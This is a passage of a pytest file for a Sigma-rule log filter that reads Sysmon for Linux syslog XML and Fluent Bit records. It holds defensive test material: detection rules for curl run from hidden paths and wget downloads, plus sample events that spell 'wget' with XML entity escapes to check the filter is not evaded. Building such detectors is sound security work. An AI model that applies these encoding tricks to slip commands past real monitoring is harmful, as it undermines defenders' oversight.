    assert result.returncode == 0, result.stderr
    assert [carried_event(r)["Event"]["System"]["EventRecordID"] for r in records(result.stdout)] == \
        ["1", "2", "3", "4", "5"]


def test_fluentbit_time_frames_a_line_of_xml_at_its_xml_time():
    """Sysmon for Linux's own syslog lines, not JSON, go out as JSON records under ``--fluentbit-time``:
    one read as its XML's event is framed at that event's time, not the clock's."""
    result = run_cli(["--fluentbit-time", "--emit", "all"], _syslog_file())
    assert result.returncode == 0, result.stderr
    starts = [line[1:line.index(b",")] for line in result.stdout.splitlines()]
    assert [starts[i] for i in (1, 3, 4)] == [b"%d.000000000" % (1796378400 + s) for s in (1, 2, 3)]


def test_several_syslog_files_are_merged_by_their_xml_time(tmp_path):
    """Lines of Sysmon for Linux's own syslog files, not JSON, had no merge key: the second file's events
    all came after the first's, though dated between them, as a correlation would have read them too."""
    def line(second: int) -> str:
        return syslog_line(sysmon_xml("ls", record=second, when=f"2026-12-04T10:00:0{second}.000000000Z")) + "\n"
    (tmp_path / "a.log").write_text("Dec  4 10:00:00 web1 CRON[9]: (root) CMD (true)\n" + line(1) + line(3) + line(5))
    (tmp_path / "b.log").write_text(line(2) + line(4) + "<Event><System>not well-formed\n")
    result = run_cli(["--emit", "all", "--input", str(tmp_path / "a.log"), "--input", str(tmp_path / "b.log")])
    assert result.returncode == 0, result.stderr
    read = [parse_event_xml(line[line.index(b"<Event"):].decode()) for line in result.stdout.splitlines()
            if b"<Event><System><Provider" in line]
    assert [event["Event"]["System"]["EventRecordID"] for event in read] == ["1", "2", "3", "4", "5"]
    assert result.stdout.splitlines()[-2] == b"<Event><System>not well-formed"  # at record 4's time, its file's last


def test_explain_reads_a_syslog_line_of_xml_as_the_filter_does(tmp_path):
    """``explain --event`` refused such a line ("neither the file nor its first line is a JSON object")
    and, given one, would have said the prefilter skips it: the filter parses every line that is not JSON."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
    event = tmp_path / "syslog"
    event.write_bytes(_syslog_file().splitlines()[4] + b"\n")  # curl C:\x\y: a needle-less line by its bytes
    result = run_cli(["explain", "--rule", str(rule), "--event", str(event)])
    assert result.returncode == 0, result.stderr
    said = result.stdout.decode()
    assert "holds an event's XML (Sysmon for Linux's syslog file)" in said and "profile   evtx" in said
    assert "term 0 met" in said and "prefilter the line is not JSON: it is always parsed" in said
    event.write_bytes(b"{" + _syslog_file().splitlines()[4] + b"\n")  # text that starts as JSON does
    braced = run_cli(["explain", "--rule", str(rule), "--event", str(event)])
    assert braced.returncode == 0 and b"prefilter the line is not JSON" in braced.stdout, braced.stderr
    assert b"holds an event's XML (Sysmon for Linux's syslog file)" in braced.stdout
    event.write_bytes(syslog_line(HOSTILE["truncated"]).encode())
    refused = run_cli(["explain", "--rule", str(rule), "--event", str(event)])
    assert refused.returncode == 2 and refused.stderr.count(b"\n") == 1 and b"not well-formed" in refused.stderr


def test_explain_event_with_line_field_reads_a_syslog_line_of_xml_in_it_as_the_filter_does(tmp_path):
    """With ``--line-field log`` the filter reads the line in ``log`` as a line of its input: a syslog line
    of Sysmon for Linux's XML is that event, and it alerts; explain --event refused it ("the text in log
    is not a JSON object")."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
    event = tmp_path / "one.json"
    event.write_bytes(ndjson(WRAPPINGS["fluent-bit tail"](sysmon_xml(DOWNLOAD, image_xml="/usr/bin/curl"))))
    filtered = run_cli(["--rule", str(rule), "--line-field", "log", "--emit", "alerts", "--input", str(event)])
    assert filtered.returncode == 0 and len(alerts(filtered.stdout)) == 1, filtered.stderr
    result = run_cli(["explain", "--rule", str(rule), "--line-field", "log", "--event", str(event)])
    assert result.returncode == 0, result.stderr
    said = result.stdout.decode()
    assert "holds an event's XML (Sysmon for Linux's syslog file)" in said and "profile   evtx" in said
    assert "outcome   an alert, at once" in said and "prefilter the line is not JSON: it is always parsed" in said
    event.write_bytes(ndjson({"log": syslog_line(HOSTILE["truncated"])}))
    refused = run_cli(["explain", "--rule", str(rule), "--line-field", "log", "--event", str(event)])
    assert refused.returncode == 2 and refused.stderr.count(b"\n") == 1 and b"not well-formed" in refused.stderr


FLUENT_BIT_MODES = [["--non-json", "wrap"], ["--fluentbit-time"], ["--non-json", "wrap", "--fluentbit-time"]]


def _unframed(stdout: bytes, framed: bool) -> list:
    return [record[1] if framed else record for record in records(stdout)]


@pytest.mark.parametrize("modes", FLUENT_BIT_MODES, ids=" ".join)
def test_the_fluent_bit_modes_write_a_line_read_as_its_xml_as_a_message_enriched_where_matched(tmp_path, modes):
    """The Fluent Bit modes write JSON only: a syslog line read as its XML's event was a pipeline_error
    record ("not JSON"), though read, and never enriched.  It is ECS ``{"message": <the line>}`` now, with
    the ``sigma`` object a JSON event gets when it matched (a byte order mark left off, as for a JSON line);
    the other daemons' lines are still pipeline_error records."""
    rule = tmp_path / "r.yml"
    rule.write_text(TWO_CURLS)
    lines = _syslog_file().splitlines()
    data = b"".join(b"\xef\xbb\xbf" * (i == 1) + line + b"\n" for i, line in enumerate(lines))
    framed = "--fluentbit-time" in modes
    result = run_cli(["--rule", str(rule), "--emit", "all", *modes], data)
    assert result.returncode == 0, result.stderr
    out = _unframed(result.stdout, framed)
    assert [r.get("message") or r["event"]["original"] for r in out[:5]] == [line.decode() for line in lines]
    assert [i for i, r in enumerate(out[:5]) if r.get("event", {}).get("kind") == "pipeline_error"] == [0, 2]
    assert [r["sigma"]["rule"]["title"] for r in out[:5] if "sigma" in r] == ["curl from a hidden path"] * 2
    assert [i for i, r in enumerate(out[:5]) if "sigma" in r] == [1, 4]
    assert set(out[3]) == {"message"}
    (alert,) = alerts(b"\n".join(json.dumps(r).encode() for r in out[5:]))
    assert [e["record_id"] for e in alert["sigma"]["events"]] == [1, 3]
    assert "skipped: 2 invalid JSON" in result.stderr.decode(), result.stderr
    matched = _unframed(run_cli(["--rule", str(rule), "--emit", "matches", *modes], data).stdout, framed)
    assert [r["message"] for r in matched[:2]] == [lines[1].decode(), lines[4].decode()]


@pytest.mark.parametrize("modes", FLUENT_BIT_MODES[::2], ids=" ".join)
def test_a_line_read_as_its_xml_over_the_record_cap_is_cut_as_an_enriched_json_event_is(tmp_path, modes):
    """Escaped into a record (each backslash and quote of the line doubled), a line under the cap may
    outgrow it: written as a ``too_long`` pipeline_error record holding the record's start, as an enriched
    JSON event over the cap is; its alert is whole."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
    line = syslog_line(sysmon_xml("curl " + "\\" * 1600, image_xml="/usr/bin/curl")).encode()
    assert len(line) < 3000 and len(json.dumps({"message": line.decode()})) > 4200
    result = run_cli(["--rule", str(rule), "--emit", "all", "--max-record-bytes", "4096", *modes], line + b"\n")
    assert result.returncode == 0, result.stderr
    assert all(len(written) <= 4096 for written in result.stdout.splitlines())
    cut, alert = _unframed(result.stdout, "--fluentbit-time" in modes)
    assert cut["error"]["type"] == "too_long" and cut["pipeshell"]["truncated"] is True
    assert cut["event"]["original"].startswith('{"message":"Dec  4 10:00:00 web1 sysmon: <Event>')
    assert alert["event"]["kind"] == "alert" and alert["rule"]["name"] == "curl from a hidden path"


def test_an_anchored_needle_is_looked_for_in_xml_without_its_quote():
    """A value in XML ends at ``</Data>``, so ``curl"`` (``Image|endswith: /curl``) is never in an XML line's
    bytes: every such line went to the full path and, in a rule set, to every rule its log source routes it
    to (a thousand SigmaHQ process-creation rules on each Render_Event_As_XML record)."""
    from pipeshell_filter.io.rule_index import RuleIndex

    curl, other = (json.dumps({"log": syslog_line(sysmon_xml(command, image_xml=image))}).encode()
                   for command, image in (("curl x", "/usr/bin/curl"), ("ls x", "/usr/bin/ls")))
    for engine in pf.available_engines():
        assert pf.Prefilter([b'curl"'], engine).judge([curl, other]) == [pf.CANDIDATE, pf.SKIP], engine
        index = RuleIndex({0: [b'curl"'], 1: [b'"ls x']}, engine)
        assert index.rules_for(curl) == {0} and index.rules_for(other) == {1}, engine


def _escaped_mark(how: list) -> str:
    """``<Event`` in a JSON string's raw text, each character as itself or a ``\\u`` escape, as ``how`` says."""
    return "".join(ch if way == 0 else f"\\u{ord(ch):04x}" if way == 1 else f"\\u{ord(ch):04X}"
                   for ch, way in zip("<Event", how))


@given(COMMANDS, st.lists(st.integers(0, 3), max_size=40), st.lists(st.integers(0, 2), min_size=6, max_size=6),
       st.booleans(), st.sampled_from([1, 3]))
@example("wget -q", [1], [0, 1, 0, 0, 0, 0], False, 3)
def test_xml_whose_marks_are_spelled_with_escapes_is_judged_as_it_is_read(command, choices, mark, raw_first,
                                                                        rule_count):
    """A record whose XML writes each ``<Event`` with an escape (``<\\u0045vent``) is read as that XML's event
    when another of its texts holds a raw ``<Event``: ``hides_text`` looked only from the raw mark on, so a
    ``&#119;get`` in the XML before it went unseen, and the prefilter ruled out a line that matches."""
    xml = sysmon_xml(_spelled(command, choices), image_xml=_spelled("/usr/bin/curl", choices[::-1]))
    fields = ['"log": ' + json.dumps(syslog_line(xml)).replace("<Event", _escaped_mark(mark)), '"note": "<Event"']
    data = ("{" + ", ".join(fields[::-1] if raw_first else fields) + "}\n").encode()
    rules = RULES[:rule_count]
    expected = run_filter(data, None, rules)
    for engine in pf.available_engines():
        assert run_filter(data, engine, rules) == expected, engine


def test_a_record_whose_xml_spells_its_marks_with_escapes_is_read_from_that_xml():
    """What the property above relies on: the filter reads such a record's XML, and ``&#119;get`` is wget."""
    line = '{"log": ' + json.dumps(syslog_line(sysmon_xml("&#119;get -q x"))).replace("<Event", "<\\u0045vent")
    enriched, alert = records(run_filter((line + ', "note": "<Event"}\n').encode(), None, RULES))
    assert enriched["sigma"]["rule"]["id"] == alert["rule"]["id"] == "9d3c9f5e-1b2a-4c6d-8e9f-0a1b2c3d4e5f"
